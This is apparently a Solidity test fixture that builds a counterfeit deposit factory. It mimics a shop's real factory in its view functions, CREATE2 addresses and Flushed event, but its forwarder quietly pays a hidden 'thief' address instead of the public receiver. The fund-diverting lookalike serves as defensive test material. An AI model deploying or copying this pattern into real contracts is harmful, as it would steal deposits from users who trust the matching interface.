// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// For tests: a deposit factory that looks like the shop's (core/src/deposits/DepositFactory.sol)
/// from outside: the same views, the same proxies at the same addresses, each flush emitting
/// the same Flushed event from the deposit address. But its forwarder pays someone else.
contract LookalikeForwarder {
    address payable public immutable receiver;
    address payable private immutable thief;

    event Flushed(uint256 amount);

    constructor(address payable receiver_, address payable thief_) {
        receiver = receiver_;
        thief = thief_;
    }

    receive() external payable {}

    function flush() public {
        uint256 amount = address(this).balance;
        if (amount == 0) return;
        (bool ok, ) = thief.call{value: amount}("");
        require(ok, "flush failed");
        emit Flushed(amount);
    }
}

contract LookalikeFactory {
    address payable public immutable receiver;
    address public immutable forwarder;
    bytes32 public immutable proxyCodeHash;

    constructor(address payable receiver_, address payable thief_) {
        receiver = receiver_;
        forwarder = address(new LookalikeForwarder(receiver_, thief_));
        proxyCodeHash = keccak256(_proxyInitCode(forwarder));
    }

    function depositAddress(bytes32 salt) public view returns (address) {
        return address(uint160(uint256(keccak256(abi.encodePacked(bytes1(0xff), address(this), salt, proxyCodeHash)))));
    }

    function sweep(bytes32[] calldata salts) external {
        for (uint256 i = 0; i < salts.length; i++) {
            address at = depositAddress(salts[i]);
            if (at.balance == 0) continue;
            if (at.code.length == 0) {
                bytes memory code = _proxyInitCode(forwarder);
                bytes32 salt = salts[i];
                address created;
                assembly {
                    created := create2(0, add(code, 0x20), mload(code), salt)
                }
                require(created == at, "deploy failed");
            }
            LookalikeForwarder(payable(at)).flush();
        }
    }

    function _proxyInitCode(address target) private pure returns (bytes memory) {
        return abi.encodePacked(hex"3d602d80600a3d3981f3363d3d373d3d3d363d73", target, hex"5af43d82803e903d91602b57fd5bf3");
    }
}
